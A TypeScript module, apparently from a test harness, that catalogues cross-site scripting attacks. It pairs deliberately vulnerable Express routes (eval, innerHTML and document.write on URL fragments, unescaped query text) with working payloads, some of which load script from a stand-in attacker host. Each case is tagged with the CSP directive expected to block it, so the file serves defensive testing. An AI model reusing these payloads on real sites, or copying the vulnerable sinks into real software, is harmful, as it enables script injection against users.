import type { Request, Response } from 'express';
import type { Attack } from '../attack.js';
import type { Scene } from '../scene.js';
import { textOf, type Victim } from '../victim.js';

type Render = (text: string, victim: Victim, res: Response) => { body: string; head?: string };

/** A page that shows what the query says: the hole is there in both services. */
const shows =
  (render: Render) =>
  (victim: Victim): void => {
    victim.app.get('/show', (req: Request, res: Response) => {
      const { body, head } = render(textOf(req.query['q']), victim, res);
      victim.page(res, body, head);
    });
  };
const asHtml = shows((text) => ({ body: `<p>Nothing found for ${text}.</p>` }));
const inHead = (after: string) =>
  shows((text, victim, res) => ({ head: text, body: victim.script(res, '', after) }));

/** A page whose own script does something unwise. */
const runs = (code: string, body = '<p id="out"></p>') =>
  shows((_text, victim, res) => ({ body: body + victim.script(res, code) }));

const show = ({ names }: Scene, q: string, hash = ''): string =>
  `${names.victim}/show?q=${encodeURIComponent(q)}${hash}`;

/** Somebody follows a prepared link. */
const link = (
  id: string,
  what: string,
  serve: (victim: Victim) => void,
  by: string,
  q: string | ((scene: Scene) => string),
  more: Partial<Attack> = {},
): Attack => ({
  id,
  what,
  goal: 'script',
  by: [by],
  serve,
  act: (scene) => scene.open(typeof q === 'string' ? show(scene, q) : q(scene)),
  ...more,
});

const INLINE = 'csp: script-src-elem';
const HANDLER = 'csp: script-src-attr';
const EVAL = 'csp: script-src';
const IMAGE = '<img src=x: onerror=pwned()>';
const hash = (text: string) => (scene: Scene) => show(scene, '', `#${encodeURIComponent(text)}`);

/** A file that somebody has uploaded, handed out under this type. */
const file =
  (path: string, type: string | undefined, text: string) =>
  ({ app }: Victim): void => {
    app.get(`/files/${path}`, (_req, res) => {
      if (type !== undefined) res.setHeader('Content-Type', type);
      res.end(text);
    });
  };
const opensFile = (id: string, what: string, by: string, path: string, type: string, text: string): Attack =>
  link(id, what, file(path, type, text), by, ({ names }) => `${names.victim}/files/${path}`);

export const scripts: readonly Attack[] = [
  link('script-element', 'a script element in a search term', asHtml, INLINE, '<script>pwned()</script>', {
    short: true,
  }),
  link('event-handler', 'an event handler of an image that fails', asHtml, HANDLER, IMAGE),
  link(
    'attribute-breakout',
    'a quote that ends an attribute, then a handler that runs on focus',
    shows((text) => ({ body: `<input value="${text}">` })),
    HANDLER,
    '" autofocus onfocus="pwned()',
  ),
  link('javascript-link', 'a link to javascript:, clicked', asHtml, INLINE, '', {
    act: async (scene) => {
      await scene.open(show(scene, '<a id="x" href="javascript:pwned()">more</a>'));
      await scene.page.click('#x');
    },
  }),
  link('javascript-form', 'a form whose action is javascript:, sent', asHtml, 'csp: ', '', {
    by: ['csp: form-action', INLINE],
    act: async (scene) => {
      await scene.open(show(scene, '<form action="javascript:pwned()"><button id="x">Go</button></form>'));
      await scene.page.click('#x');
    },
  }),
  link('foreign-script', "a script element that loads the attacker's file", asHtml, INLINE, (scene) =>
    show(scene, `<script src="${scene.names.evil}/x.js"></script>`),
  ),
  link(
    'data-script',
    'a script element with a data: address',
    asHtml,
    INLINE,
    '<script src="data:text/javascript,pwned()"></script>',
  ),
  link(
    'base-hijack',
    "a base element moves the page's own relative script to the attacker",
    inHead('src="lib/x.js"'),
    'csp: base-uri',
    (scene) => show(scene, `<base href="${scene.names.evil}/">`),
    { short: true, pages: () => ({ '/lib/x.js': 'pwned()' }) },
  ),
  link(
    'import-map',
    "an import map in front of the page's own module",
    shows((text, victim, res) => ({
      head: text,
      body: victim.script(res, 'import "app"', 'type="module"'),
    })),
    INLINE,
    (scene) =>
      show(scene, `<script type="importmap">{"imports":{"app":"${scene.names.evil}/x.js"}}</script>`),
  ),
  link(
    'nonce-theft',
    'an unfinished script element that swallows the next one with its nonce',
    shows((text, victim, res) => ({ body: text + victim.script(res, 'void 0') })),
    INLINE,
    (scene) => show(scene, `<script src="${scene.names.evil}/x.js" x="`),
  ),
  link(
    'jsonp-gadget',
    "the service's own JSONP endpoint, loaded as a script",
    (victim) => {
      asHtml(victim);
      victim.app.get('/rates', (_req, res) => void res.jsonp({ rate: 3 }));
    },
    INLINE,
    '<script src="/rates?callback=pwned"></script>',
  ),
  link(
    'javascript-frame',
    'a frame with a javascript: address',
    asHtml,
    'csp: ',
    '<iframe src="javascript:parent.pwned()"></iframe>',
  ),
  link(
    'srcdoc-frame',
    'a frame that brings its document along',
    asHtml,
    'csp: ',
    '<iframe srcdoc="&lt;script>parent.pwned()&lt;/script>"></iframe>',
  ),
  link(
    'plugin-document',
    'an object element that shows an uploaded page of the same origin',
    (victim) => {
      asHtml(victim);
      file('page', 'text/html', '<script>parent.pwned()</script>')(victim);
    },
    'csp: object-src',
    '<object data="/files/page"></object>',
  ),
  link(
    'svg-animation',
    'an SVG animation that starts a handler',
    asHtml,
    HANDLER,
    '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  ),
  link(
    'inner-html',
    'own script: innerHTML from the fragment',
    runs('out.innerHTML = decodeURIComponent(location.hash.slice(1))'),
    HANDLER,
    hash(IMAGE),
    { short: true },
  ),
  link(
    'eval',
    'own script: eval() on the fragment',
    runs('eval("let amount = " + decodeURIComponent(location.hash.slice(1)))'),
    EVAL,
    hash('1; pwned()'),
  ),
  link(
    'template',
    'own script: a template engine that makes functions',
    runs(
      'out.textContent = decodeURIComponent(location.hash.slice(1)).replace(/{{(.*?)}}/g, (_, code) => new Function("return " + code)())',
    ),
    EVAL,
    hash('{{pwned()}}'),
  ),
  link(
    'timer-text',
    'own script: setTimeout() with text',
    runs('setTimeout("out.textContent = " + decodeURIComponent(location.hash.slice(1)), 0)'),
    EVAL,
    hash('pwned()'),
  ),
  link(
    'document-write',
    "own script: document.write() of the attacker's script",
    runs('document.write(decodeURIComponent(location.hash.slice(1)))'),
    INLINE,
    (scene) => show(scene, '', `#${encodeURIComponent(`<script src="${scene.names.evil}/x.js"></script>`)}`),
  ),
  link(
    'location-javascript',
    'own script: goes to where the fragment says',
    runs('location = decodeURIComponent(location.hash.slice(1))'),
    INLINE,
    hash('javascript:pwned()'),
  ),
  link(
    'attribute-setter',
    'own script: a handler attribute set from the fragment, clicked',
    runs('out.setAttribute("onclick", decodeURIComponent(location.hash.slice(1)))', '<p id="out">Go</p>'),
    HANDLER,
    '',
    {
      act: async (scene) => {
        await scene.open(hash('pwned()')(scene));
        await scene.page.click('#out');
      },
    },
  ),
  link(
    'prototype-pollution',
    'own script: parameters merged into objects reach innerHTML through the prototype',
    runs(
      `const options = {};
for (const [path, value] of new URLSearchParams(location.hash.slice(1))) {
  const keys = path.split('.'), last = keys.pop();
  keys.reduce((at, key) => (at[key] ??= {}), options)[last] = value;
}
const { title } = {};
out.innerHTML = title ?? 'Hello';`,
    ),
    HANDLER,
    (scene) => show(scene, '', `#${new URLSearchParams({ '__proto__.title': IMAGE })}`),
  ),
  link(
    'referrer',
    'own script: shows the address of the page before',
    runs('out.innerHTML = decodeURIComponent(document.referrer)'),
    HANDLER,
    ({ names }) => `${names.evil}/from?${encodeURIComponent(IMAGE)}`,
    {
      pages: ({ victim }) => ({
        '/from': `<meta name="referrer" content="unsafe-url"><script>location = '${victim}/show?q='</script>`,
      }),
    },
  ),
  link(
    'cookie-from-sibling',
    'own script: shows a cookie, which a page under the same domain has set',
    runs('out.innerHTML = decodeURIComponent(/greeting=([^;]*)/.exec(document.cookie)?.[1])'),
    HANDLER,
    ({ names }) => `${names.sibling}/set`,
    {
      pages: ({ host, victim }) => ({
        '/set': `<script>document.cookie = 'greeting=${encodeURIComponent(IMAGE)}; domain=${host}; path=/; secure'; location = '${victim}/show?q='</script>`,
      }),
    },
  ),
  opensFile(
    'uploaded-page',
    'an uploaded page, opened',
    INLINE,
    'cv.html',
    'text/html',
    '<script>pwned()</script>',
  ),
  opensFile(
    'uploaded-svg',
    'an uploaded picture (SVG) with a script, opened',
    INLINE,
    'logo.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>pwned()</script></svg>',
  ),
  opensFile(
    'uploaded-xml',
    'uploaded XML with a script of the XHTML name space, opened',
    INLINE,
    'data.xml',
    'text/xml',
    '<d><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script></d>',
  ),
  {
    id: 'sniffed-page',
    what: 'an upload without a type, which the browser takes for a page',
    goal: 'script',
    by: ['page: shown as text'],
    short: true,
    serve: file('notes', undefined, '<html><script>pwned()</script></html>'),
    async act(scene) {
      await scene.page.goto(`${scene.names.victim}/files/notes`);
      if ((await scene.page.innerText('body')).includes('<script>')) scene.note('shown as text');
    },
  },
  link(
    'sniffed-script',
    "an uploaded text, chosen as the page's own (nonced) script",
    (victim) => {
      file('notes.txt', 'text/plain', 'pwned()')(victim);
      shows((text, { script }, res) => ({
        body: script(res, '', `src="/files/${victim.house.html(text)}"`),
      }))(victim);
    },
    'browser: Refused to execute script',
    'notes.txt',
  ),
];
